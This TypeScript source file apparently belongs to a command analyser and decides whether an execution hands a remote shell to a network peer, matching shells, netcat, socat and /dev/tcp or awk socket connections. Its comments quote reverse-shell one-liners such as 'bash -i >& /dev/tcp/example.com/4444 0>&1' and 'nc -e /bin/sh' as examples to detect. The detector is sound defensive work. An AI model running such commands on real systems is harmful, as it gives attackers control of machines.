// Whether an execution hands a shell of this machine to whoever is at the other end of a connection.
import type { Execution } from "../execution.ts"
import { programName } from "../programs/program-name.ts"
import { networkClass } from "./network-class.ts"

const SHELL = /^(sh|bash|zsh|dash|ksh|mksh|ash|fish|rbash|cmd|powershell|pwsh|busybox)$/
const CONNECTION = new Set(["nc", "ncat", "netcat", "telnet", "socat", "openssl"])

/** @param makers What made its input. */
export function remoteShell(execution: Execution, makers: readonly Execution[]): boolean {
  const { program } = execution
  if (program === "exec" && execution.argv.length === 1) return makers.some(isDevice)
  if (SHELL.test(program)) return isBare(execution) && makers.some(isConnection)
  if (/^[gmn]?awk$/.test(program)) return execution.argv.some((word) => CONNECTS.test(word))
  if (!CONNECTION.has(program)) return false
  return startsShell(execution) || (makers.some(isBareShell) && !isLocal(execution))
}

/** A shell that has no script, and does what it is told. */
function isBare({ arguments: { flags, operands } }: Execution): boolean {
  return operands.length === 0 && !flags.some(({ name }) => name === "-c" || name === "--version")
}

function isBareShell(execution: Execution): boolean {
  return SHELL.test(execution.program) && isBare(execution)
}

/** A connection to elsewhere: `bash -i >& /dev/tcp/example.com/4444 0>&1`, `sh < /dev/tcp/…`. */
function isConnection(execution: Execution): boolean {
  return (
    (execution.program === "" || CONNECTION.has(execution.program)) &&
    !isLocal(execution) &&
    reaches(execution)
  )
}

/** `exec 3<>/dev/tcp/example.com/80`: a connection that stays open for all that follows. */
function isDevice(execution: Execution): boolean {
  return execution.program === "" && isConnection(execution)
}

function reaches({ effects }: Execution): boolean {
  return effects.some(({ access }) => access === "fetch")
}

function isLocal({ effects }: Execution): boolean {
  const addresses = effects.filter(({ access }) => access === "fetch")
  return addresses.length > 0 && addresses.every(({ target }) => networkClass(target) === "loopback")
}

/** A connection that awk opens to elsewhere, and reads commands from. */
const CONNECTS = /\/inet[46]?\/(tcp|udp)\/\d*\/(?!localhost|127\.)/

const STARTS = /^(-e|-c|--exec|--sh-exec|--lua-exec)$/

/** `nc -e /bin/sh`, `ncat --sh-exec bash`, `socat TCP:host:port EXEC:sh`. */
function startsShell({ program, arguments: { flags, operands } }: Execution): boolean {
  if (program === "socat")
    return operands.some((word) => /^(exec|system|shell):/i.test(word) && runsShell(word))
  return flags.some(({ name, value }) => STARTS.test(name) && runsShell(value ?? ""))
}

function runsShell(command: string): boolean {
  const [first = "", ...rest] = command
    .replace(/^\w+:/, "")
    .replace(/^["']/, "")
    .split(/[\s,"']+/)
  const bare = rest.every((word) => !/^-\w*c/.test(word))
  return SHELL.test(programName(first)) && bare
}
